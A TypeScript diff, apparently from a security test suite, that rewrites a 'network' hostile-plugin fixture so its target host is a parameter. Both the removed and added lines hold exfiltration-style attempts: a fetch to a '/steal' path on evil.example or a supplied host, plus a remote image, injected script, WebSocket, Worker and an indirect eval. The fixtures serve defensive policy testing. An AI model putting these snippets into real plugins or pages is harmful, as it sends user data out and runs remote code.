@@ -29,23 +29,20 @@ export const COOKIES: HostilePlugin = {
   ),
 }
 
-/** Calls where the console is, to a host that the test watches, and past the policy by other ways. */
-export const NETWORK: HostilePlugin = {
+/** Calls where the console is, a host that the test watches, and past the policy by other ways. */
+export const network = (host: string): HostilePlugin => ({
   name: 'network',
   draw: attempts({
     call: 'return (await fetch("/v2/users/me")).status',
-    elsewhere: 'return (await fetch("http://evil.example/steal")).status',
-    picture:
-      'return new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("seen"); image.onerror = no; image.src = "http://evil.example/picture.png" })',
-    script:
-      'return new Promise((yes, no) => { const script = document.createElement("script"); script.onload = () => yes("run"); script.onerror = no; script.src = "http://evil.example/a.js"; document.head.append(script) })',
-    socket:
-      'return new Promise((yes, no) => { const socket = new WebSocket("ws://evil.example/"); socket.onopen = () => yes("open"); socket.onerror = no })',
+    elsewhere: `return (await fetch("http://${host}/steal")).status`,
+    picture: `return new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("seen"); image.onerror = no; image.src = "http://${host}/picture.png" })`,
+    script: `return new Promise((yes, no) => { const script = document.createElement("script"); script.onload = () => yes("run"); script.onerror = no; script.src = "http://${host}/a.js"; document.head.append(script) })`,
+    socket: `return new Promise((yes, no) => { const socket = new WebSocket("ws://${host}/"); socket.onopen = () => yes("open"); socket.onerror = no })`,
     peers: 'return new RTCPeerConnection().connectionState',
     code: 'return (0, eval)("1 + 1")',
-    worker: 'return new Worker("http://evil.example/w.js") && "made"',
+    worker: `return new Worker("http://${host}/w.js") && "made"`,
   }),
-}
+})
 
 export const REDIRECTS: HostilePlugin = {
   name: 'redirects',
